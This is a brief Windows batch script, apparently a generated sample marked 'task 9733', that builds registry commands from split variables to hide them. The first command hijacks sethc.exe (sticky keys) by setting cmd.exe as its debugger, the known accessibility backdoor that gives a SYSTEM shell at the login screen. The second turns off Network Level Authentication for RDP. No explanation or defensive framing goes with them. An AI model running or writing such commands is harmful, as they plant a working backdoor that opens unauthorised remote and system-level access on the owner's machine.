REM task 9733 v2
@echo off
setlocal EnableDelayedExpansion
set "rrp0=reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution "
set "gft1=Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f"
!rrp0!!gft1!
@echo off
setlocal EnableDelayedExpansion
set "qgi0=reg add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinSta"
set "jdf1=tions\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f"
!qgi0!!jdf1!
